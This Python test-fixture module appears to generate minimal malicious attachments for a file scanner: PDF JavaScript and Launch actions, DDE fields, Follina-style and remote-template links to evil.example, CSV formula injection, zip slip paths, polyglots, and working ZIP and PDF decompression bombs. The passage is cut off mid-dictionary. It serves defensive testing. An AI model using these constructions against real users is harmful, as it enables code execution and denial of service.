"""Files of bytes that attack whoever opens them: each made as small as it can be, by the name of its technique."""

import io
import random
import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import camera
import pikepdf
from PIL import Image
from PIL.PngImagePlugin import PngInfo

TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'wordprocessingml.document.main+xml"/></Types>'
)
RELATION = (
    '<Relationships><Relationship Id="r1" Type="http://schemas/{type}" Target="{to}" TargetMode="External"/>'
    "</Relationships>"
)
DOCX = {"[Content_Types].xml": TYPES, "word/document.xml": "<w/>"}


def packed(parts: dict[str, str | bytes], kind: int = zipfile.ZIP_DEFLATED, **attributes: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", kind) as archive:
        for name, data in parts.items():
            info = zipfile.ZipInfo(name)
            info.compress_type = kind
            for key, value in attributes.items():
                setattr(info, key, value)
            archive.writestr(info, data)
    return out.getvalue()


def docx(parts: dict[str, str | bytes]) -> bytes:
    return packed({**DOCX, **parts})


def pdf(act: Callable[[pikepdf.Pdf], None] = lambda _: None, **saving: object) -> bytes:
    """One of an empty page; the same bytes each time, unless it is told how to be saved."""
    out = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        act(document)
        document.save(out, **(saving or {"deterministic_id": True}))  # type: ignore[arg-type]
    return out.getvalue()


def opening(document: pikepdf.Pdf, kind: str = "/JavaScript") -> None:
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name(kind), JS=pikepdf.String("app.alert(1)"))


def embedded(document: pikepdf.Pdf) -> None:
    document.attachments["x.exe"] = b"MZ"


def picture(form: str) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (2, 2)).save(out, form)
    return out.getvalue()


def odt(kind: str = "application/vnd.oasis.opendocument.text", **parts: str) -> bytes:
    return packed(
        {"mimetype": kind, "content.xml": "<x/>", **{key.replace("__", "/"): each for key, each in parts.items()}}
    )


def overlapping() -> bytes:
    """Many members that share the bytes of one (Fifield's bomb): the directory names one place again and again."""
    data = bytearray(packed({f"{number}.txt": "a" * 1000 for number in range(4)}))
    at = data.index(b"PK\x01\x02")
    for _ in range(4):
        data[at + 42 : at + 46] = struct.pack("<I", 0)
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(data)


def lying() -> bytes:
    """A DOCX whose text is longer than it says: what it says of the beginning fits, to the checksum."""
    said = "<w>" + " " * 993 + "</w>"
    data = bytearray(docx({"word/a.xml": said + "<x/>" * 1000}))
    for at, length in ((data.index(b"word/a.xml") - 30, 14), (data.rindex(b"word/a.xml") - 46, 16)):
        struct.pack_into("<I", data, at + length, zlib.crc32(said.encode()))
        struct.pack_into("<I", data, at + length + 8, len(said))
    return bytes(data)


def elements(seed: int, count: int) -> str:
    """XML that does not pack well."""
    source = random.Random(seed)
    return "<x>" + "".join(f"<a>{source.randrange(16)}</a>" for _ in range(count)) + "</x>"


def linked(address: Callable[[pikepdf.Pdf], pikepdf.Object]) -> bytes:
    """A PDF whose page has a link."""

    def change(document: pikepdf.Pdf) -> None:
        action = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=address(document))
        link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=action)
        document.pages[0].obj["/Annots"] = pikepdf.Array([link])

    return pdf(change)


def unlisted(catalog: bytes) -> bytes:
    """A PDF whose catalog stands in its trailer: the one that is an object is nobody's."""
    data = pdf(static_id=True, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    root = re.search(rb"/Root (\d+ 0 R)", data)
    pages = re.search(rb"/Pages (\d+ 0 R)", data)
    written = b"/Root << /Type /Catalog /Pages %b %b >>" % (pages[1] if pages else b"", catalog)
    return data.replace(root[0] if root else b"", written)


def led(document: pikepdf.Pdf) -> None:
    """A document that opens at its first page, and then asks."""
    there = pikepdf.Array([document.pages[0].obj, pikepdf.Name.Fit])
    document.Root["/OpenAction"] = pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=there, Next=ASKING)


def fields(*codes: str) -> bytes:
    """A DOCX with one field, whose code lies in several runs."""
    runs = "".join(f"<instrText>{code}</instrText>" for code in codes)
    text = f'<w><fldChar fldCharType="begin"/>{runs}<fldChar fldCharType="end"/></w>'
    return docx({"word/document.xml": text})


def nested(before: str, within: str, shown: str, after: str) -> bytes:
    """A DOCX with a field in whose code there is another, which shows a text."""
    begin, shows, end = (f'<fldChar fldCharType="{kind}"/>' for kind in ("begin", "separate", "end"))
    inner = f"{begin}<instrText>{within}</instrText>{shows}<r><t>{shown}</t></r>{end}"
    code = f"<instrText>{before}</instrText>{inner}<instrText>{after}</instrText>"
    return docx({"word/document.xml": f"<w><p>{begin}{code}{shows}<t>x</t>{end}</p></w>"})


def repeated(piece: bytes, times: int, between: tuple[bytes, bytes] = (b"", b"")) -> bytes:
    """A piece again and again, packed (zlib)."""
    packer = zlib.compressobj(9)
    pieces = [between[0], *[piece * 1000] * (times // 1000), between[1]]
    return b"".join(map(packer.compress, pieces)) + packer.flush()


def bursting(packed: bytes = b"") -> bytes:
    """A PDF with a stream of objects: of 300 KB that unpack to 300 MB, if not told otherwise."""
    packed = packed or repeated(b" ", 300_000_000)
    body, places = b"%PDF-1.5\n", [0] * 6
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R>>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
        5: b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%b\nendstream" % (len(packed), packed),
    }
    for number, text in objects.items():
        places[number] = len(body)
        body += b"%d 0 obj\n%b\nendobj\n" % (number, text)
    rows = [struct.pack(">BIB", 1, at, 0) for at in [*places, len(body)]]
    rows[0], rows[4] = bytes(6), struct.pack(">BIB", 2, 5, 0)
    table = b"".join(rows)
    body += b"6 0 obj\n<</Type/XRef/Size 7/W[1 4 1]/Root 1 0 R/Length %d>>stream\n" % len(table) + table
    return body + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % body.rindex(b"6 0 obj")


def overlapping_texts() -> bytes:
    """A PDF of 200 objects, each a text of 12 MB, that share their bytes: brackets within brackets."""
    body, places = b"%PDF-1.5\n", []
    parts = [
        b"<</Type/Catalog/Pages 2 0 R>>\nendobj\n",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>\nendobj\n",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>\nendobj\n",
        *[b"("] * 200,
    ]
    for number, part in enumerate(parts, 1):
        places.append(len(body))
        body += b"%d 0 obj\n%b" % (number, part)
    body += b"a" * 12_000_000 + b")" * 200 + b"\nendobj\n"
    table = b"".join(b"%010d 00000 n \n" % at for at in places)
    end = b"xref\n0 %d\n0000000000 65535 f \n%btrailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n"
    return body + end % (len(places) + 1, table, len(places) + 1, len(body))


def filed(document: pikepdf.Pdf) -> pikepdf.Object:
    """A file in a document, which does not say that it is one."""
    held = pikepdf.Dictionary(F=document.make_stream(b"MZ"))
    return document.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F="x.exe", UF="x.exe", EF=held))


def noted(document: pikepdf.Pdf) -> None:
    note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, Rect=[0, 0, 9, 9])
    note.FS = filed(document)
    document.pages[0].obj.Annots = pikepdf.Array([document.make_indirect(note)])


def belonging(document: pikepdf.Pdf) -> None:
    document.Root.AF = pikepdf.Array([filed(document)])


def borrowing(document: pikepdf.Pdf, **further: pikepdf.Object) -> None:
    """A form whose page is that of another file."""
    form = document.make_stream(b"q Q", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form, BBox=[0, 0, 9, 9])
    form.stream_dict.update(further or {"/Ref": pikepdf.Dictionary(F="//evil.example/x.pdf", Page=0)})
    document.pages[0].obj.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(X=form))


def threading(document: pikepdf.Pdf, **there: str) -> None:
    action = pikepdf.Dictionary(S=pikepdf.Name.Thread, D=0, **there)
    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=action)
    document.pages[0].obj.Annots = pikepdf.Array([link])


def solid(document: pikepdf.Pdf) -> None:
    """A body of three dimensions, with a program that runs as it is shown."""
    body = document.make_stream(b"U3D", Subtype=pikepdf.Name.U3D, OnInstantiate=document.make_stream(b"x"))
    note = pikepdf.Dictionary({"/Subtype": pikepdf.Name("/3D"), "/Rect": pikepdf.Array([0, 0, 9, 9]), "/3DD": body})
    document.pages[0].obj.Annots = pikepdf.Array([note])


def of_the_web(document: pikepdf.Pdf) -> None:
    document.Root.X = document.make_indirect(pikepdf.Dictionary(FS=pikepdf.Name.URL, F="http://evil.example/x"))


def calendar(*lines: str) -> bytes:
    return "\r\n".join(("BEGIN:VCALENDAR", *lines, "END:VCALENDAR", "")).encode()


def collected(document: pikepdf.Pdf) -> None:
    document.Root.Collection = pikepdf.Dictionary(Type=pikepdf.Name.Collection)


def hiding(between: bytes) -> bytes:
    """A ZIP with bytes between two members that its directory says nothing of."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("a.txt", "x")
        archive.fp.write(between)  # type: ignore[union-attr]
        archive.start_dir = archive.fp.tell()  # type: ignore[attr-defined, union-attr]
        archive.writestr("b.txt", "y")
    return out.getvalue()


def photo(kind: str, exif: Image.Exif | None = None, **options: Any) -> bytes:
    """A photo with what a phone writes into it."""
    return camera.saved(Image.new("RGB", (64, 64)), kind, exif=camera.notes() if exif is None else exif, **options)


def placeless() -> Image.Exif:
    """Notes of a phone that may not tell where it is, and does so: all zeros."""
    exif = camera.notes()
    exif.get_ifd(0x8825).update({2: (0.0, 0.0, 0.0), 4: (0.0, 0.0, 0.0)})
    return exif


def noticed() -> bytes:
    """The notes alone, which are a TIFF."""
    return camera.notes().tobytes().removeprefix(b"Exif\0\0")


def described() -> bytes:
    """A PNG whose packed text says where it was taken."""
    text = PngInfo()
    text.add_itxt("XML:com.adobe.xmp", "<x exif:GPSLatitude='7,45S'/>", zip=True)
    return camera.saved(Image.new("RGB", (2, 2)), "PNG", pnginfo=text)


def streamed() -> bytes:
    """A ZIP as programs write it that don't know a member's size beforehand."""

    class Pipe(io.RawIOBase):
        written = b""

        def writable(self) -> bool:
            return True

        def write(self, data: bytes) -> int:  # type: ignore[override]
            self.written += bytes(data)
            return len(data)

    with zipfile.ZipFile(out := Pipe(), "w", zipfile.ZIP_DEFLATED) as archive:  # type: ignore[call-overload]
        archive.writestr("a/", "")
        archive.writestr("a/b.txt", "x" * 1000)
        archive.writestr("c.txt", "")
    return out.written


def doubled(plain: dict[str, str | bytes], other: dict[str, str | bytes]) -> bytes:
    """A ZIP with two records at its end: Python follows that of files of over 4 GB, and others the plain one."""
    shown, hidden = packed(plain), packed(other)
    begin, end = shown.index(b"PK\1\2"), shown.index(b"PK\5\6")
    directory = bytearray(shown[begin:end])
    place = directory.rindex(b"PK\1\2")
    struct.pack_into("<H", directory, place + 32, hidden.index(b"PK\5\6"))
    first, last, count = hidden.index(b"PK\1\2"), hidden.index(b"PK\5\6"), len(other)
    within = bytearray(hidden[:last])
    at, start = first, begin + len(directory)
    for _ in other:
        struct.pack_into("<I", within, at + 42, struct.unpack_from("<I", within, at + 42)[0] + start)
        at += 46 + sum(struct.unpack_from("<HHH", within, at + 28))
    length = len(directory) + len(within)
    long = struct.pack("<4sQHHIIQQQQ", b"PK\6\6", 44, 45, 45, 0, 0, len(plain), len(plain), length, begin)
    there = struct.pack("<4sIQI", b"PK\6\7", 0, begin + length, 1)
    short = struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, count, count, last - first, start + first, 0)
    return shown[:begin] + bytes(directory) + bytes(within) + long + there + short


def commented(member: bytes = b"", whole: bytes = b"") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        info = zipfile.ZipInfo("a.txt")
        info.comment, archive.comment = member, whole
        archive.writestr(info, "x")
    return out.getvalue()


def padded() -> bytes:
    """A ZIP with bytes behind the end of what is packed, which belong to the member."""
    data = bytearray(packed({"a.txt": "x" * 100}))
    at, size = data.index(b"PK\1\2"), struct.unpack_from("<I", data, 18)[0]
    for place in (18, at + 20):
        struct.pack_into("<I", data, place, size + 4)
    end = data.index(b"PK\5\6")
    struct.pack_into("<I", data, end + 16, at + 4)
    return bytes(data[:at] + b"MZ\0\0" + data[at:])


def called_again(name: str) -> bytes:
    """A ZIP whose text some programs unpack under another name (APPNOTE 4.6.9)."""
    again = b"\1" + struct.pack("<I", zlib.crc32(b"a.txt")) + name.encode()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        info = zipfile.ZipInfo("a.txt")
        info.extra = struct.pack("<HH", 0x7075, len(again)) + again
        archive.writestr(info, "x")
    return out.getvalue()


def book(formula: str) -> bytes:
    parts = {"[Content_Types].xml": TYPES, "xl/workbook.xml": "<x/>", "xl/a.xml": f"<f>{formula}</f>"}
    return packed(dict(parts))


def sheet(text: str) -> bytes:
    parts = {"[Content_Types].xml": TYPES, "xl/workbook.xml": "<x/>", "xl/worksheets/sheet1.xml": f"<x>{text}</x>"}
    return packed(dict(parts))


def table(text: str) -> bytes:
    return odt("application/vnd.oasis.opendocument.spreadsheet", **{"a.xml": f"<x>{text}</x>"})


def typed(declared: str, part: str) -> bytes:
    """A DOCX with a part that runs, and what its kind is told to be."""
    run = '<w><fldSimple instr="DDEAUTO c:"/></w>'
    return docx({"[Content_Types].xml": TYPES.replace("</Types>", f"{declared}</Types>"), part: run})


def vml(text: str) -> bytes:
    return docx({"word/document.xml": f'<w xmlns:o="urn:o" xmlns:n="urn:n">{text}</w>'})


def related(kind: str, to: str) -> bytes:
    """A DOCX with a relationship that doesn't say that it leads out."""
    return docx({"word/_rels/a.rels": RELATION.format(type=kind, to=to).replace(' TargetMode="External"', "")})


HEADER = "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"
WEB = 'WEBSERVICE("http://e.example")'
WEB_Q = "WEBSERVICE(&quot;http://e.example&quot;)"
ASKING = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://evil.example/"))
HTML = b"<!doctype html><script>__ran(1)</script>"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='__ran(1)'/>"
CONTENTS, ACTIVE, BOMB = "attachment-contents", "attachment-active", "attachment-bomb"
LOCATION, PERSONAL = "attachment-location", "attachment-personal"
NIK = "3574014501900001"

# fmt: off
ASTRAY = (
    "//evil.example/x", "/\\evil.example/x", "\\\\evil.example\\x", "vnd.ms-word:ofe|u|http://evil.example/x",
    "shell:x", "ftp://x/", "telnet:x", "ldap://x", "jar:x", "view-source:https://x.example/", " She\nll:x",
)
# fmt: on
"""Where no link of a PDF may lead."""

PARCELS: dict[str, tuple[str, Callable[[], bytes], str | tuple[str, ...]]] = {
    "plain PDF": ("a.pdf", pdf, ""),
    "PDF whose title has slashes": (
        "a.pdf",
        lambda: pdf(
            lambda document: document.docinfo.__setitem__("/Title", "SK (188.45/AA/2026), 12/AF/JS, Audio/Sound")
        ),
        "",
    ),
    "PDF whose title ends in a bracket": (
        "a.pdf",
        lambda: pdf(lambda document: (document.docinfo.__setitem__("/Title", "(\\"), opening(document))),
        "attachment-active",
    ),
    "plain DOCX": ("a.docx", lambda: docx({}), ""),
    "DOCX with a link": (
        "a.docx",
        lambda: docx({"word/_rels/document.xml.rels": RELATION.format(type="hyperlink", to="https://a.example/")}),
        "",
    ),
    "plain ODT": ("a.odt", odt, ""),
    "plain ZIP": ("a.zip", lambda: packed({"a/b.pdf": pdf(), "a/c.docx": docx({})}), ""),
    "plain CSV": ("a.csv", lambda: b"a,b\r\n-5,+62 812\r\n", ""),
    "plain PNG": ("a.png", lambda: picture("PNG"), ""),
    "HTML named PDF": ("a.pdf", lambda: HTML, CONTENTS),
    "HTML named PNG": ("a.png", lambda: HTML, CONTENTS),
    "SVG named PNG": ("a.png", lambda: SVG, CONTENTS),
    "SVG named JPEG": ("a.jpg", lambda: SVG, CONTENTS),
    "GIF named PNG": ("a.png", lambda: picture("GIF"), CONTENTS),
    "JPEG named PNG": ("a.png", lambda: picture("JPEG"), CONTENTS),
    "program named PDF": ("a.pdf", lambda: b"MZ\x90\0", CONTENTS),
    "program named TXT": ("a.txt", lambda: b"MZ\x90\0\x03", CONTENTS),
    "script named TXT": ("a.txt", lambda: b"#!/bin/sh\nid\n", CONTENTS),
    "HTML named TXT": ("a.txt", lambda: HTML, CONTENTS),
    "HTML named CSV": ("a.csv", lambda: b"\xef\xbb\xbf  " + HTML, CONTENTS),
    "SVG named ICS": ("a.ics", lambda: SVG, CONTENTS),
    "PHP named TXT": ("a.txt", lambda: b"<?php system('id');", CONTENTS),
    "empty PDF": ("a.pdf", lambda: b"", CONTENTS),
    "empty ZIP": ("a.zip", lambda: b"PK\x05\x06" + bytes(18), CONTENTS),
    "GIF and PDF": ("a.pdf", lambda: b"GIF89a/*" + pdf(), CONTENTS),
    "HTML and PDF": ("a.pdf", lambda: HTML + pdf(), CONTENTS),
    "PDF and ZIP": ("a.pdf", lambda: pdf() + packed({"a.txt": "x"}), CONTENTS),
    "PDF and HTML behind": ("a.pdf", lambda: pdf() + HTML, CONTENTS),
    "PDF cut off": ("a.pdf", lambda: pdf()[:-40], CONTENTS),
    "PDF mark alone": ("a.pdf", lambda: b"%PDF-1.7\n%%EOF\n", CONTENTS),
    "GIFAR": ("a.zip", lambda: picture("GIF") + packed({"a.txt": "x"}), CONTENTS),
    "JPEG and ZIP": ("a.docx", lambda: picture("JPEG") + docx({}), CONTENTS),
    "program before a ZIP": ("a.zip", lambda: b"MZ" + bytes(100) + packed({"a.txt": "x"}), CONTENTS),
    "ZIP before a ZIP": ("a.docx", lambda: packed({"x.txt": "x"}) + docx({}), CONTENTS),
    "PDF with JavaScript": ("a.pdf", lambda: pdf(opening), ACTIVE),
    "PDF with JavaScript, packed": (
        "a.pdf",
        lambda: pdf(opening, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        ACTIVE,
    ),
    "PDF with JavaScript, name in numbers": (
        "a.pdf",
        lambda: pdf(opening).replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/#4a#53"),
        ACTIVE,
    ),
    "PDF that launches": ("a.pdf", lambda: pdf(lambda document: opening(document, "/Launch")), ACTIVE),
    "PDF with a file in it": ("a.pdf", lambda: pdf(embedded), ACTIVE),
    "PDF with a password": ("a.pdf", lambda: pdf(encryption=pikepdf.Encryption(owner="a", user="b")), CONTENTS),
    "DOCX in an encoding that is none": (
        "a.docx",
        lambda: docx({"word/a.xml": '<?xml version="1.0" encoding="x-unknown"?><w/>'}),
        CONTENTS,
    ),
    "DOCX in an encoding of many bytes": (
        "a.docx",
        lambda: docx({"word/a.xml": '<?xml version="1.0" encoding="big5"?><w/>'}),
        CONTENTS,
    ),
    "DOCX with macros": ("a.docx", lambda: docx({"word/vbaProject.bin": b"x"}), ACTIVE),
    "DOCX with macros, other case": ("a.docx", lambda: docx({"word/VBAPROJECT.BIN": b"x"}), ACTIVE),
    "DOCM renamed": (
        "a.docx",
        lambda: packed(
            {**DOCX, "[Content_Types].xml": TYPES.replace("openxmlformats-officedocument.", "ms-word.macroEnabled.")}
        ),
        ACTIVE,
    ),
    "DOCX with a template from elsewhere": (
        "a.docx",
        lambda: docx(
            {"word/_rels/settings.xml.rels": RELATION.format(type="attachedTemplate", to="https://evil.example/x.dotm")}
        ),
        ACTIVE,
    ),
    "DOCX with a picture from elsewhere": (
        "a.docx",
        lambda: docx({"word/_rels/document.xml.rels": RELATION.format(type="image", to="https://evil.example/x.png")}),
        ACTIVE,
    ),
    "DOCX with a link to a share": (
        "a.docx",
        lambda: docx({"word/_rels/document.xml.rels": RELATION.format(type="hyperlink", to="file://evil.example/x")}),
        ACTIVE,
    ),
    "DOCX with MHTML (Follina)": (
        "a.docx",
        lambda: docx(
            {"word/_rels/document.xml.rels": RELATION.format(type="oleObject", to="mhtml:https://evil.example/x!x")}
        ),
        ACTIVE,
    ),
    "DOCX with an object": ("a.docx", lambda: docx({"word/embeddings/oleObject1.bin": b"x"}), ACTIVE),
    "DOCX with ActiveX": ("a.docx", lambda: docx({"word/activeX/activeX1.xml": "x"}), ACTIVE),
    "DOCX with a document type (XXE)": (
        "a.docx",
        lambda: packed({**DOCX, "[Content_Types].xml": "<!DOCTYPE x>" + TYPES}),
        ACTIVE,
    ),
    "XLSX with Excel 4 macros": (
        "a.xlsx",
        lambda: packed({"[Content_Types].xml": TYPES, "xl/workbook.xml": "<x/>", "xl/macrosheets/sheet1.xml": "<x/>"}),
        ACTIVE,
    ),
    "XLSX with a book from elsewhere": (
        "a.xlsx",
        lambda: packed(
            {"[Content_Types].xml": TYPES, "xl/workbook.xml": "<x/>", "xl/externalLinks/externalLink1.xml": "<x/>"}
        ),
        ACTIVE,
    ),
    "XLSX named DOCX": ("a.docx", lambda: packed({"[Content_Types].xml": TYPES, "xl/workbook.xml": "<x/>"}), CONTENTS),
    "ZIP named DOCX": ("a.docx", lambda: packed({"a.txt": "x"}), CONTENTS),
    "ODT with Basic": ("a.odt", lambda: odt(Basic__Standard__x_xml="x"), ACTIVE),
    "ODT with scripts": ("a.odt", lambda: odt(Scripts__python__x="x"), ACTIVE),
    "ODS named ODT": ("a.odt", lambda: odt("application/vnd.oasis.opendocument.spreadsheet"), CONTENTS),
    "ZIP with a program": ("a.zip", lambda: packed({"a.exe": "MZ"}), ACTIVE),
    "ZIP with a page": ("a.zip", lambda: packed({"a.html": "x"}), ACTIVE),
    "ZIP with a shortcut": ("a.zip", lambda: packed({"a.pdf.lnk": "x"}), ACTIVE),
    "ZIP in a ZIP": ("a.zip", lambda: packed({"a.zip": packed({"b.txt": "x"})}), ACTIVE),
    "ZIP that climbs (zip slip)": ("a.zip", lambda: packed({"../../a.txt": "x"}), ACTIVE),
    "ZIP with an absolute path": ("a.zip", lambda: packed({"/etc/a.txt": "x"}), ACTIVE),
    "ZIP with a drive": ("a.zip", lambda: packed({"C:/a.txt": "x"}), ACTIVE),
    "ZIP with backslashes": ("a.zip", lambda: packed({"a.txt": "x"}).replace(b"a.txt", b"\\.txt"), ACTIVE),
    "ZIP with a link": (
        "a.zip",
        lambda: packed({"a.txt": "/etc/passwd"}, external_attr=0o120777 << 16, create_system=3),
        ACTIVE,
    ),
    "ZIP with names that differ in case": ("a.zip", lambda: packed({"a.txt": "x", "A.txt": "y"}), ACTIVE),
    "ZIP bomb": ("a.zip", lambda: packed({"a.txt": bytes(60_000_000)}), BOMB),
    "DOCX bomb": ("a.docx", lambda: docx({"word/media/a.png": bytes(60_000_000)}), BOMB),
    "ZIP bomb of many": (
        "a.zip",
        lambda: packed({f"{number}.txt": "" for number in range(6000)}, zipfile.ZIP_STORED),
        BOMB,
    ),
    "ZIP bomb that overlaps": ("a.zip", overlapping, (BOMB, CONTENTS)),
    "ZIP cut off": ("a.zip", lambda: packed({"a.txt": "x"})[:-8], CONTENTS),
    "CSV with a formula": ("a.csv", lambda: b'a,b\r\n1,=HYPERLINK("http://evil.example")\r\n', ACTIVE),
    "CSV with DDE": ("a.csv", lambda: b"a;b\r\n1;+cmd|' /C calc'!A0\r\n", ACTIVE),
    "CSV with a quoted formula": ("a.csv", lambda: b'"=1+1"\r\n', ACTIVE),
    "CSV of UTF-16": ("a.csv", lambda: "=1+1".encode("utf-16"), CONTENTS),
    "PDF that opens an address": (
        "a.pdf",
        lambda: pdf(lambda document: document.Root.__setitem__("/OpenAction", ASKING)),
        ACTIVE,
    ),
    "PDF that acts as a page is shown": (
        "a.pdf",
        lambda: pdf(lambda document: document.pages[0].obj.__setitem__("/AA", ASKING)),
        ACTIVE,
    ),
    "PDF with a stream in another file": (
        "a.pdf",
        lambda: pdf(lambda document: document.Root.__setitem__("/X", document.make_stream(b"", F="//evil.example/x"))),
        ACTIVE,
    ),
    "PDF bomb (object stream)": ("a.pdf", bursting, (CONTENTS, BOMB)),
    "DOCX with a field that runs (DDE)": ("a.docx", lambda: fields('DDEAUTO c:\\\\x "/k calc"'), ACTIVE),
    "DOCX with such a field in pieces": ("a.docx", lambda: fields("DD", "EA", "UTO x y"), ACTIVE),
    "DOCX with such a field by numbers": ("a.docx", lambda: fields("QUOTE 68 68 69"), ACTIVE),
    "DOCX with a picture of a share": ("a.docx", lambda: fields('INCLUDEPICTURE "//evil.example/x"'), ACTIVE),
    "DOCX with a plain field": ("a.docx", lambda: fields('HYPERLINK "https://a.example/" \\o "DDE LINK"'), ""),
    "DOCX with a simple field": (
        "a.docx",
        lambda: docx({"word/document.xml": '<w><fldSimple instr=" DDE x y "/></w>'}),
        ACTIVE,
    ),
    "DOCX with a relation in entities": (
        "a.docx",
        lambda: docx(
            {"word/_rels/a.rels": RELATION.format(type="image", to="https://e.example/").replace("Ext", "&#69;xt")}
        ),
        ACTIVE,
    ),
    "DOCX with a bracket within a relation": (
        "a.docx",
        lambda: docx({"word/_rels/a.rels": RELATION.format(type="image", to="https://e.example/>")}),
        ACTIVE,
    ),
    "DOCX with relations in capitals": (
        "a.docx",
        lambda: docx({"word/_RELS/a.RELS": RELATION.format(type="image", to="https://e.example/")}),
        ACTIVE,
    ),
    "DOCX with relations in UTF-16": (
        "a.docx",
        lambda: docx({"word/_rels/a.rels": RELATION.format(type="image", to="https://e.example/").encode("utf-16")}),
        ACTIVE,
    ),
    "DOCX with a relation that calls itself a link": (
        "a.docx",
        lambda: docx({"word/_rels/a.rels": RELATION.format(type='x" A="/hyperlink', to="https://e.example/")}),
        ACTIVE,
    ),
    "DOCX with macros under another name": (
        "a.docx",
        lambda: docx(
            {"word/_rels/a.rels": RELATION.format(type="vbaProject", to="a.xml").replace("External", "Internal")}
        ),
        ACTIVE,
    ),
    "DOCX with a page in it (altChunk)": ("a.docx", lambda: docx({"word/afchunk.mht": "x"}), ACTIVE),
    "DOCX with an RTF in it": ("a.docx", lambda: docx({"word/a.rtf": "x"}), ACTIVE),
    "DOCX with a document type in its text": ("a.docx", lambda: docx({"word/a.xml": "<!DOCTYPE x><x/>"}), ACTIVE),
    "DOCX that is no XML": ("a.docx", lambda: docx({"word/a.xml": "<x"}), CONTENTS),
    "XLSX that asks the web": (
        "a.xlsx",
        lambda: packed(
            {"[Content_Types].xml": TYPES, "xl/workbook.xml": "<x/>", "xl/a.xml": "<f>_xlfn.&#87;EBSERVICE(A1)</f>"}
        ),
        ACTIVE,
    ),
    "XLSX with a connection": (
        "a.xlsx",
        lambda: packed({"[Content_Types].xml": TYPES, "xl/workbook.xml": "<x/>", "xl/a.xml": "<x><connection/></x>"}),
        ACTIVE,
    ),
    "XLSX with plain formulas": (
        "a.xlsx",
        lambda: packed(
            {"[Content_Types].xml": TYPES, "xl/workbook.xml": "<x/>", "xl/a.xml": '<f>SUM(A1)&amp;"DDE("</f>'}
        ),
        "",
    ),
    "ODT with a picture from elsewhere": (
        "a.odt",
        lambda: odt(**{"a.xml": '<x><image href="https://e.example/"/></x>'}),
        ACTIVE,
    ),
    "ODT with a listener": (
        "a.odt",
        lambda: odt(**{"a.xml": '<x><event-listener href="vnd.sun.star.script:a"/></x>'}),
        ACTIVE,
    ),
    "ODT with a link": ("a.odt", lambda: odt(**{"a.xml": '<x><a href="https://a.example/"/></x>'}), ""),
    "ZIP with a document with macros": (
        "a.zip",
        lambda: packed({"a.docx": docx({"word/vbaProject.bin": b"x"})}),
        ACTIVE,
    ),
    "ZIP with a program named PDF": ("a.zip", lambda: packed({"a.pdf": b"MZ"}), CONTENTS),
    "CSV with a formula behind a lone CR": ("a.csv", lambda: b"a\r=1+1\r", ACTIVE),
    "CSV that names its separator": ("a.csv", lambda: b"sep=!\r\na!=1+1\r\n", ACTIVE),
    "CSV with a wide formula": ("a.csv", lambda: "a,\uff1d1+1\r\n".encode(), ACTIVE),
    "CSV with a formula behind a no-break space": ("a.csv", lambda: "a,\u00a0=1+1\r\n".encode(), ACTIVE),
    "HTML in a comment named TXT": ("a.txt", lambda: b"<!-- --><script>__ran(1)</script>", CONTENTS),
    "RTF named TXT": ("a.txt", lambda: b"{\\rtf1 x}", CONTENTS),
    "text named ICS": ("a.ics", lambda: b"halo", CONTENTS),
    "ICS that runs": (
        "a.ics",
        lambda: b"BEGIN:VCALENDAR\r\nACTION:PROCEDURE\r\nEND:VCALENDAR\r\n",
        ACTIVE,
    ),
    "ICS with a file of a share, folded": (
        "a.ics",
        lambda: b"BEGIN:VCALENDAR\r\nATT\r\n ACH:file://evil.example/x\r\nEND:VCALENDAR\r\n",
        ACTIVE,
    ),
    "CSV of tabs (backtracking)": ("a.csv", lambda: b"\t" * 100_000, ""),
    "CSV of negative numbers (backtracking)": ("a.csv", lambda: b"-1,-2,-3\n" * 25_000, ""),
    "CSV of shares": ("a.csv", lambda: b"RT,Ubah\n1,-5%\n2,+3.5 %\n", ""),
    "ICS of short lines (backtracking)": ("a.ics", lambda: b"BEGIN:VCALENDAR\r\n" + b";\n" * 50_000, ""),
    "ICS that runs, lines that end in CR": (
        "a.ics",
        lambda: b"BEGIN:VCALENDAR\rATTACH:file://evil.example/x\r",
        ACTIVE,
    ),
    "ICS with a colon before what it shows": (
        "a.ics",
        lambda: b'BEGIN:VCALENDAR\r\nDESCRIPTION;X="a:b";ALTREP="http://evil.example/":x\r\nEND:VCALENDAR\r\n',
        ACTIVE,
    ),
